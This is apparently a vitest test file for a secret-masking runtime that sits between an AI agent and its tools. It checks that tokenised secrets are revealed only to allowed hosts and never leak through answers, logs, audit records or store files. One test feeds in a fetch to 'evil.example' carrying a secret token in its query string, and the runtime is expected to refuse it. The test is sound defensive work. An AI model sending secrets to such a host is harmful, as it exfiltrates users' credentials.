import { readFileSync } from 'node:fs'

import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'

import { composeRuntime, openRecords, type CallRequest, type Runtime } from '../src/compose.ts'
import type { CapabilityKind } from '../src/core/capability.ts'
import type { Json, JsonObject } from '@contextd/shared/json/value'
import { answer, type Answer, type Result } from '../src/core/result.ts'
import type { PayloadSource, Tool } from '../src/core/tool.ts'
import { createLog } from '../src/platform/log.ts'
import { aTool } from './support/door-tools.ts'
import { sampleSecrets, turned } from './support/registry.ts'
import { makeTempHome, type TempHome } from './support/temp-home.ts'

const [secret = '', other = ''] = sampleSecrets(2)
const client = { name: 'test', version: '1', door: 'stdio' } as const

let home: TempHome
let runtimes: Runtime[]

beforeEach(() => {
  home = makeTempHome()
  runtimes = []
  home.write('config/rules.json', {
    agents: {
      main: {
        allow: { servers: ['contextd'], capabilities: ['secret:reveal', 'fs:write'] },
        reveal: [
          { tool: 'fetch', host: 'api.example.com' },
          { tool: 'login', argument: 'password' },
        ],
      },
    },
    defaults: { deny_on_missing_agent: false },
  })
})
afterEach(async () => {
  for (const runtime of runtimes) await runtime.close()
  home.remove()
})

/** The arguments that the tools received, in order. */
const given: JsonObject[] = []
const kept: string[] = []

const needing = (need: CapabilityKind, tool: Tool): Tool => ({ ...tool, needs: [need] })
const readOnly = (tool: Tool): Tool => ({
  ...tool,
  definition: { ...tool.definition, annotations: { readOnlyHint: true } },
})
const echo = (name: string): Tool =>
  aTool(name, async (args) => {
    given.push(args)
    return answer(args)
  })

const tools: Tool[] = [
  aTool('show', async ({ text = secret }) => answer(text)),
  echo('fetch'),
  echo('login'),
  needing('fs:write', echo('write')),
  readOnly(aTool('reverse', async (args, host) => answer(turned(host.reveal(args.password as string))))),
  {
    ...aTool('remember', async ({ text }, host) => {
      kept.push(host.archive(text as string))
      return answer(kept.length - 1)
    }),
    keepsTokens: true,
  },
  aTool('recall', async ({ n }, host) => answer(host.recall(kept[n as number] ?? ''))),
]

async function start(parts: Partial<Parameters<typeof composeRuntime>[0]> = {}): Promise<Runtime> {
  const runtime = await composeRuntime({
    env: home.env,
    cwd: home.project,
    log: () => {},
    tools,
    agent: 'main',
    ...parts,
  })
  runtimes.push(runtime)
  given.length = 0
  kept.length = 0
  return runtime
}

function callsOf(runtime: Runtime, session = runtime.sessions.begin(client)) {
  const call = (tool: string, args: JsonObject = {}, parts: Partial<CallRequest> = {}): Promise<Result> =>
    runtime.handle(
      runtime.newCall({
        method: 'tool',
        tool,
        arguments: args,
        session,
        client,
        claims: {},
        signal: new AbortController().signal,
        ...parts,
      }),
    )
  const dataOf = async (tool: string, args?: JsonObject): Promise<Json> => {
    const result = await call(tool, args)
    return result.kind === 'answer'
      ? ((result.structured as JsonObject).data ?? null)
      : expect.fail(JSON.stringify(result))
  }
  return { session, call, dataOf }
}

const audited = (runtime: Runtime, kind: 'intent' | 'outcome'): Record<string, unknown> =>
  runtime.store.prepare('SELECT * FROM audit WHERE kind = ? ORDER BY seq DESC LIMIT 1').get(kind) ?? {}

describe('a token', () => {
  test('becomes its value on the way to the host of the rule, and the record keeps the token', async () => {
    const runtime = await start()
    const { call, dataOf } = callsOf(runtime)
    expect(await dataOf('show')).toBe('[SECRET_1]')
    const asked = { url: 'https://api.example.com/', headers: { authorization: 'Bearer [SECRET_1]' } }
    expect(await dataOf('fetch', asked)).toEqual(asked)
    expect(given).toEqual([{ ...asked, headers: { authorization: `Bearer ${secret}` } }])
    expect(JSON.parse(audited(runtime, 'intent').arguments as string)).toEqual(asked)
    expect(audited(runtime, 'outcome').notes).toBe('["revealed: [SECRET_1] in headers"]')

    const attempt = { url: 'https://evil.example/?x=[SECRET_1]' }
    expect(await call('fetch', attempt)).toMatchObject({ error: { code: 'SECRET_TOKEN_IN_ARGUMENT' } })
    expect(given).toHaveLength(1)
    expect(audited(runtime, 'outcome').notes).toBe(
      '["reveal refused: [SECRET_1] in url (not certain to go to api.example.com alone)"]',
    )
  })

  test('is valid in the session that received it, even after a restart, and in no other', async () => {
    const first = await start()
    const { session } = callsOf(first)
    await callsOf(first, session).dataOf('show')
    await first.close()
    runtimes.length = 0

    const second = await start()
    await callsOf(second, session).dataOf('login', { password: '[SECRET_1]' })
    await callsOf(second).dataOf('login', { password: '[SECRET_1]' })
    expect(given).toEqual([{ password: secret }, { password: '[SECRET_1]' }])
    // The revealed value is masked again, although this process never saw it in a text.
    expect(await callsOf(second, session).dataOf('show', { text: turned(secret) })).toMatch(
      /^\[SECRET_\d+\]$/,
    )
  })

  test('that a tool reveals itself is subject to the same rules', async () => {
    const { dataOf } = callsOf(await start())
    await dataOf('show')
    expect(await dataOf('reverse', { password: '[SECRET_1]' })).toBe(']1_TERCES[')
  })

  test('is not written to a file in place of its secret', async () => {
    const runtime = await start()
    const { call, dataOf } = callsOf(runtime)
    await dataOf('show')
    expect(await call('write', { path: '.env', content: 'KEY=[SECRET_1]' })).toMatchObject({
      kind: 'refusal',
      error: { code: 'SECRET_NOT_REVEALED' },
    })
    expect(given).toEqual([])
    expect(audited(runtime, 'outcome').error).toBe('SECRET_NOT_REVEALED')
    await call('write', { path: '.env', content: 'KEY=[SECRET_9]' })
    expect(given).toHaveLength(1)
  })

  test('is meaningless after another process forgot its secret', async () => {
    const { dataOf } = callsOf(await start())
    await dataOf('show')
    await dataOf('login', { password: '[SECRET_1]' })
    const operator = openRecords(home.env)
    try {
      expect(operator.secrets.forget({ all: true })).toBe(1)
    } finally {
      operator.close()
    }
    await dataOf('login', { password: '[SECRET_1]' })
    expect(given).toEqual([{ password: secret }, { password: '[SECRET_1]' }])
  })

  test('is explained once, within the budget of the answer', async () => {
    const { call } = callsOf(await start())
    const [first, second] = [(await call('show')) as Answer, (await call('show')) as Answer]
    expect(first.structured).toMatchObject({
      data: '[SECRET_1]',
      note: expect.stringContaining('[SECRET_n]'),
    })
    expect(first.content[0]?.text).toMatch(/^\[SECRET_1\]\n\[SECRET_n\] represents/)
    expect(second.structured).not.toHaveProperty('note')
  })

  test('is explained even next to a long answer, which still fits', async () => {
    const { call } = callsOf(await start())
    const long = (await call('show', { text: `${secret}\n${'a line of the log\n'.repeat(5000)}` })) as Answer
    const { note, tokens_used, truncated } = long.structured as JsonObject
    expect([typeof note, truncated]).toEqual(['string', true])
    expect(tokens_used).toBeLessThanOrEqual(2000)
  })
})

describe('text that outlives a session', () => {
  test('is passed from one session to the next through the host, scrubbed', async () => {
    const runtime = await start()
    const [writer, reader] = [callsOf(runtime), callsOf(runtime)]
    await reader.dataOf('show', { text: other })
    await writer.dataOf('show')
    await writer.dataOf('remember', { text: `deploy with [SECRET_1], not ${other}` })
    expect(kept[0]).toMatch(/^deploy with \[SECRET:[0-9a-f]{12}\], not \[SECRET:[0-9a-f]{12}\]$/)
    expect(await reader.dataOf('recall', { n: 0 })).toBe('deploy with [SECRET_2], not [SECRET_1]')
    expect(await writer.dataOf('recall', { n: 0 })).toBe('deploy with [SECRET_1], not [SECRET_2]')
    await reader.dataOf('login', { password: '[SECRET_2]' })
    expect(given).toEqual([{ password: secret }])
    const operator = openRecords(home.env)
    operator.secrets.forget({ all: true })
    operator.close()
    expect(await reader.dataOf('recall', { n: 0 })).toBe(
      'deploy with [SECRET_FORGOTTEN], not [SECRET_FORGOTTEN]',
    )
  })
})

describe('a value that the user set', () => {
  test('is masked in a runtime that is already running', async () => {
    const runtime = await start()
    const { dataOf } = callsOf(runtime)
    const mine = 'correct-Horse7-battery9'
    expect(await dataOf('show', { text: mine })).toBe(mine)
    const operator = openRecords(home.env)
    operator.secrets.set('mine', mine)
    operator.close()
    const seen = async (): Promise<void> =>
      expect(await dataOf('show', { text: `it is ${mine}` })).toBe('it is [SECRET_1]')
    await vi.waitFor(seen, { timeout: 30_000, interval: 100 })
  })
})

/** Every channel through which text can leave during or after a call; each gets the secret and returns the output. */
const channels: Record<string, (runtime: Runtime) => Promise<unknown>> = {
  'an answer': (runtime) => callsOf(runtime).call('show'),
  'an answer in another form': (runtime) =>
    callsOf(runtime).call('show', { text: Buffer.from(`k=${secret}`).toString('base64') }),
  'a failure': (runtime) => callsOf(runtime).call('fail'),
  progress: async (runtime) => {
    const heard: unknown[] = []
    await callsOf(runtime).call('say', {}, { onProgress: (progress) => heard.push(progress) })
    return heard
  },
  'a log line of the tool': async (runtime) => {
    const heard: unknown[] = []
    await callsOf(runtime).call('say', {}, { onLog: (_, message) => heard.push(message) })
    return heard
  },
  'a question': async (runtime) => {
    const heard: unknown[] = []
    const ask = Object.assign(
      async ({ params }: { params: JsonObject }) => {
        heard.push(params)
        return {}
      },
      { kinds: ['elicitation'] as const, waits: true },
    )
    await callsOf(runtime).call('say', {}, { ask })
    return heard
  },
  'the text of a ref': async (runtime) => {
    const { call, dataOf } = callsOf(runtime)
    await call('save')
    return dataOf('read_more', { ref: kept[0]!, offset: 0 })
  },
  'archived text': async (runtime) => {
    await callsOf(runtime).call('remember', { text: `my ${secret}` })
    return kept
  },
  'a resource': (runtime) => callsOf(runtime).call('x://y', {}, { method: 'resource' }),
  'a prompt': (runtime) => callsOf(runtime).call('p', {}, { method: 'prompt' }),
  'the description of a tool': (runtime) => callsOf(runtime).call('tools', {}, { method: 'list' }),
  'the list of resources': (runtime) => callsOf(runtime).call('resources', {}, { method: 'list' }),
  'the record of a question': async (runtime) => {
    await callsOf(runtime).call('show', { text: secret })
    return runtime.store.prepare('SELECT * FROM audit').all()
  },
  'the record of a call to a tool of that name': async (runtime) => {
    await callsOf(runtime).call(secret)
    return runtime.store.prepare('SELECT * FROM audit').all()
  },
  'the list of sessions': async (runtime) => {
    runtime.sessions.begin({ ...client, name: secret })
    return runtime.store.prepare('SELECT * FROM sessions').all()
  },
  'a message of the transport itself': async (runtime) => runtime.scrub(`no such thing: ${secret}`, 'door'),
}

const leaky: Tool[] = [
  ...tools,
  { ...echo('described'), definition: { name: 'described', description: `uses ${secret}`, inputSchema: {} } },
  aTool('fail', async () => ({
    kind: 'answer',
    own: false,
    isError: true,
    content: [{ type: 'text', text: `no: ${secret}` }],
  })),
  aTool('crash', () => Promise.reject(new Error(`at ${secret}`))),
  aTool('say', async (_, { call }) => {
    // Bypasses the host, which would scrub it: the pipeline scrubs it anyway.
    call.onProgress?.({ progress: 1, message: secret })
    call.onLog?.('info', { said: secret })
    await call.ask?.({ kind: 'elicitation', params: { message: secret } })
    return answer('said')
  }),
  aTool('save', async (_, host) => {
    kept.push(host.refs.save(`my ${secret}`))
    return answer('saved')
  }),
]

const payloads: PayloadSource = {
  list: async (what) => (what === 'resources' ? [{ uri: 'x://y', name: `about ${secret}` }] : []),
  prompt: async () => ({
    kind: 'payload',
    value: { messages: [{ role: 'user', content: { type: 'text', text: secret } }] },
  }),
  resource: async () => ({ kind: 'payload', value: { contents: [{ uri: 'x://y', text: secret }] } }),
}

describe('no secret leaves', () => {
  test.each(Object.entries(channels))('in %s', async (_, leave) => {
    const lines: string[] = []
    const log = createLog({ level: 'debug', scrub: (text) => text, write: (line) => lines.push(line) })
    const left = JSON.stringify([await leave(await start({ tools: leaky, payloads, log }))])
    expect(left).not.toContain(secret)
    expect(left).not.toContain(Buffer.from(`k=${secret}`).toString('base64').slice(4, -4))
    expect(left).toMatch(/\[SECRET[_:]/)
  })

  test('in our own log, although it reports the crash', async () => {
    const written: string[] = []
    const { write } = process.stderr
    process.stderr.write = (line: string | Uint8Array) => written.push(String(line)) > 0
    try {
      const runtime = await composeRuntime({ env: home.env, cwd: home.project, tools: leaky, agent: 'main' })
      runtimes.push(runtime)
      await callsOf(runtime).call('crash')
    } finally {
      process.stderr.write = write
    }
    expect(written.join('')).toContain('a tool failed')
    expect(written.join('')).toContain('at [SECRET_1]')
    expect(written.join('')).not.toContain(secret)
  })

  test('in the files of the store', async () => {
    const runtime = await start({ tools: leaky })
    await callsOf(runtime).call('show')
    await callsOf(runtime).call('crash')
    await callsOf(runtime).call('remember', { text: secret })
    for (const file of [runtime.paths.database, `${runtime.paths.database}-wal`]) {
      const bytes = readFileSync(file)
      expect(bytes.includes(secret)).toBe(false)
      expect(bytes.includes(Buffer.from(secret, 'utf16le'))).toBe(false)
    }
  })

  test('and a tool that lets one through is recorded, with rule and place', async () => {
    const runtime = await start({ tools: leaky })
    await callsOf(runtime).call('say', {}, { onProgress: () => {} })
    const { findings, found_c1, found_c2 } = audited(runtime, 'outcome')
    expect([found_c1, found_c2]).toEqual([0, 1])
    expect(JSON.parse(findings as string)).toEqual([
      { layer: 'C2', rule: 'github-pat', place: 'progress.message', count: 1 },
    ])
    await callsOf(runtime).call('save')
    expect(audited(runtime, 'outcome')).toMatchObject({ found_c1: 1, found_c2: 0 })
  })
})

test('if the registry cannot be written, text with a secret is withheld', async () => {
  const runtime = await start()
  const { call } = callsOf(runtime)
  runtime.store
    .prepare(
      "CREATE TEMP TRIGGER full BEFORE INSERT ON secrets BEGIN SELECT RAISE(ABORT, 'the disk is full'); END",
    )
    .run()
  expect(await call('show')).toMatchObject({ kind: 'refusal', error: { code: 'SCRUB_FAILED' } })
  expect(await call('show', { text: 'no secret' })).toMatchObject({ kind: 'answer' })
  runtime.store.prepare('DROP TRIGGER full').run()
  expect(await call('show')).toMatchObject({ structured: { data: '[SECRET_1]' } })
})
